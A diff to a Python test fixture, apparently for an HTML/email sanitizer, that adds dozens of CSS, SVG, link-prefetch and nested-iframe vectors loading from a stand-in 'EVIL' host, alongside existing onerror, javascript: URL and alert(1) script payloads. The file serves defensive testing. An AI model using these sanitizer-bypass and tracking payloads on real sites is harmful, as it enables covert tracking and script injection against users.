@@ -9,7 +9,32 @@ RUN = (
 _IMG = f"<img src={EVIL}/m onerror={RUN!r}>"
 _BAD = f"url({EVIL}/c)"
 _LINK = '<a href="https://shop.example/">shop</a>'
-_PICTURES = '<img src="https://cdn.example/{}.png" width=90 height=90>' * 3
+# Properties whose URL is a document with an SVG element in it.
+EFFECTS = (
+    *(
+        "clip-path",
+        "mask",
+        "mask-image",
+        "-webkit-mask-image",
+        "-webkit-mask-box-image",
+        "filter",
+        "backdrop-filter",
+    ),
+    *(
+        "fill",
+        "stroke",
+        "marker",
+        "marker-start",
+        "marker-mid",
+        "marker-end",
+        "cursor",
+        "offset-path",
+        "shape-outside",
+    ),
+)
+# With images on, these load from CDN, and EVIL is known as a tracker by its pixel.
+CDN = "https://cdn.example"
+PICTURES = f"<img src={EVIL}/open width=1 height=1>" + f"<img src={CDN}/picture width=90 height=90>" * 40
 
 
 def _style(css: str) -> str:
@@ -90,6 +115,30 @@ CSS = {
     "shapes and offsets": _style(
         f"p{{shape-outside:{_BAD};offset-path:url({EVIL}/o#p);mask-border:url({EVIL}/b) 1;cursor:url({EVIL}/u) 1 1,auto;-webkit-box-reflect:below 1px {_BAD};fill:url({EVIL}/z#a)}}"
     ),
+    "effects": _style(
+        "p{"
+        + ";".join(f"{name}:url({EVIL}/{name}#x)" for name in EFFECTS)
+        + f"}} q{{cursor:url({EVIL}/u),image-set('{EVIL}/v' 1x),auto;clip-path:url('{EVIL}/w');mask:url( {EVIL}/x#y )}}"
+    )
+    + f'<svg><path d="M0 0L9 9" style="{";".join(f"{name}:url({EVIL}/s{name}#x)" for name in EFFECTS)}"/></svg>',
+    "effects by variables": _style(
+        f":root{{--a:{_BAD};--b:{{}} background {_BAD};--c:x;background:{_BAD}}} p{{filter:var(--a);mask:var(--b);clip-path:var(--a)}}"
+    ),
+    "effects after escapes and NUL": _style(
+        f"p{{f\\69lter:{_BAD};clip\\2d path:{_BAD};ma\0sk:{_BAD};\\66\fill:{_BAD};background\f:none;mask:{_BAD}}}"
+        f"p{{background:red}}filter:{_BAD};p{{background:{{}}mask:{_BAD}}} p{{background 1;clip-path:{_BAD}}}"
+    ),
+    "effects in nested rules": _style(
+        f"p{{background:red;&{{filter:{_BAD}}}@media all{{clip-path:{_BAD}}}}}@container(width>0){{p{{mask:{_BAD}}}}}@layer{{p{{shape-outside:{_BAD}}}}}"
+        f"@counter-style c{{symbols:{_BAD} image-set('{EVIL}/i' 1x)}}@position-try --p{{background:{_BAD}}}@view-transition{{types:{_BAD}}}"
+    ),
+    "badges through style queries": _style(
+        "".join(
+            f"@container style(--own:{width}px){{*::first-line,*::first-letter{{background:url({EVIL}/{width})}}}}"
+            for width in (10, 18, 25)
+        )
+        + f"body>*{{background:if(style(--height:18px):{_BAD})}}"
+    ),
     "data-style link": f"<link rel=stylesheet href='data:text/css,p{{background:{_BAD}}}'><style>@import 'data:text/css,p{{background:{_BAD}}}';</style><p>x",
     "svg in data urls": _style(
         f"p{{background:url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='{EVIL}/i'/><script>alert(1)</script></svg>\")}}"
@@ -161,9 +210,17 @@ MARKUP = {
             "import",
             "pingback",
             "compression-dictionary",
+            "preconnect",
+            "dns-prefetch",
+            "next prefetch",
             "expect",
         )
-    ),
+    )
+    + f'<link rel=preload as=image imagesrcset="{EVIL}/q 1x" imagesizes=9px><link rel=preload as=font href={EVIL}/r crossorigin>',
+    "links in frames": f'<iframe srcdoc="<link rel=preconnect href={EVIL}><style>@import \'{EVIL}/a\'</style>"></iframe><iframe srcdoc="&lt;link rel=dns-prefetch href={EVIL}&gt;&lt;img src={EVIL}/b&gt;"></iframe><IFRAME srcdoc="<iframe srcdoc=&quot;<img src={EVIL}/c>&quot;>"></IFRAME><svg><link rel=stylesheet href={EVIL}/d></svg><l<link rel=prefetch href={EVIL}/e><object data="data:text/html,<link rel=preconnect href={EVIL}>"></object>',
+    "svg attributes": '<svg width=90 height=90><path d="M0 0L9 9" '
+    + " ".join(f'{name}="url({EVIL}/{name}#x)"' for name in EFFECTS)
+    + f'/><filter id=f><feImage href="{EVIL}/h" /><feImage xlink:href="{EVIL}/i"/></filter><rect width=9 height=9 filter="url(#f)"/><textPath href="{EVIL}/j#k">t</textPath><mpath href="{EVIL}/l#m"/><cursor href="{EVIL}/n"/><foreignObject><img src={EVIL}/o></foreignObject><switch><image href="{EVIL}/p"/></switch></svg>',
     "speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}/a"]}}],"prerender":[{{"urls":["{EVIL}/b"]}}]}}</script><script type=importmap>{{"imports":{{"x":"{EVIL}/m"}}}}</script><script type=module>import "x"</script>',
     "frames": f"<iframe src={EVIL}/a></iframe><iframe srcdoc='{_IMG}<script>parent.x=1</script>'></iframe><frame src={EVIL}/b><fencedframe></fencedframe><portal src={EVIL}/c></portal><object data={EVIL}/d type=text/html></object><embed src={EVIL}/e><applet code=x codebase={EVIL}/f></applet>",
     "frames by scripts": f'<iframe src="javascript:{RUN}"></iframe><object data="javascript:{RUN}"></object><embed src="javascript:{RUN}"><iframe src="data:text/html,<script>{RUN}</script>"></iframe><object data="data:text/html,<img src={EVIL}/o>"></object>',
